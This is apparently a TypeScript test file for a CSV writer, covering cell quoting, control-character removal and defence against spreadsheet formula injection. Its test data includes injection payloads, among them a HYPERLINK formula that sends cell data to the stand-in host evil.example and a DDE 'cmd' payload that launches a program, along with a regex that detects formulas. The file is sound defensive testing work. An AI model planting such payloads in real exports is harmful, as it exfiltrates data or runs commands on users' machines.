import { parse } from 'csv-parse/sync';
import fc from '../../support/fast-check.ts';
import { describe, expect, test } from 'vitest';
import { BYTE_ORDER_MARK, type Cell, csvCell, csvRow } from '#domain/csv.ts';
import { removeControls } from '#domain/plain-text.ts';

const withoutApostrophes = (text: string) => text.replaceAll("'", '');

describe('a row', () => {
  test.each<[string, Cell[], string]>([
    ['numbers stay numbers', [149, 26.82, -12.5, 0], '149,26.82,-12.5,0\r\n'],
    ['text is quoted', ['PAID', 'a,b', 'say "cut"'], '"PAID","a,b","say ""cut"""\r\n'],
    ['a cell may contain a line break', ['one\r\ntwo'], '"one\ntwo"\r\n'],
    ['a cell has no control characters', ['a\u001b[31m\u0085b\u202ec'], '"a[31m\nbc"\r\n'],
    ['null is an empty cell', [null, '', 1], ',"",1\r\n'],
    ['every script stays unchanged', ['கடைசி மழை', 'آخری'], '"கடைசி மழை","آخری"\r\n'],
  ])('%s', (_, cells, line) => {
    expect(csvRow(cells)).toBe(line);
  });
});

describe('a cell with a formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tplain',
    ' =1+1',
    '"=1+1',
    `'=1+1`,
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('%j becomes text after an apostrophe', (text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(withoutApostrophes(cell)).toBe(
      `"${withoutApostrophes(removeControls(text)).replaceAll('"', '""')}"`,
    );
  });

  test.each(['a;=1+1', 'a;"=1+1', 'a\t@SUM(A1)', 'a\n=1', 'a;;-1'])(
    '%j is harmless after a separator too',
    (text) => {
      expect(csvCell(text)).toMatch(/[;\t\n]"*'[=@-]/);
    },
  );

  test.each([
    'India',
    'a=b',
    '1+1',
    'Jean-Luc',
    'me@example.com',
    "L'Avventura",
    '“Quoted”',
    'WEB',
    '2 + 2 = 5',
    '',
  ])('%j is not a formula', (text) => {
    expect(csvCell(text)).toBe(`"${text}"`);
  });
});

const specialText = fc.string({
  unit: fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ' ',
    '"',
    "'",
    ',',
    ';',
    'a',
    '1',
    'க',
    '＝',
    '\u200b',
    '|',
  ),
  maxLength: 12,
});

test('a CSV reader returns the same cells, except for added apostrophes', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(specialText, { minLength: 3, maxLength: 3 }), {
        minLength: 1,
        maxLength: 4,
      }),
      (rows) => {
        const found = parse(BYTE_ORDER_MARK + rows.map((cells) => csvRow(cells)).join(''), {
          bom: true,
          record_delimiter: '\r\n',
        });
        const plain = (cells: string[][]) => cells.map((row) => row.map(withoutApostrophes));
        expect(plain(found)).toEqual(plain(rows.map((row) => row.map(removeControls))));
      },
    ),
    { numRuns: 1000 },
  );
});

test('no cell starts with a formula, whichever separator a program uses', () => {
  const formula = /^[\s"\u200b]*[=+\-@＝]/;
  fc.assert(
    fc.property(specialText, specialText, (one, two) => {
      const file = csvRow(['before', one, two]);
      for (const cell of (parse(file) as string[][]).flat()) expect(cell).not.toMatch(formula);
      // A reader that ignores quotes.
      for (const cell of file.split(/[;\t\r\n]/)) expect(cell).not.toMatch(formula);
    }),
    { numRuns: 3000 },
  );
});
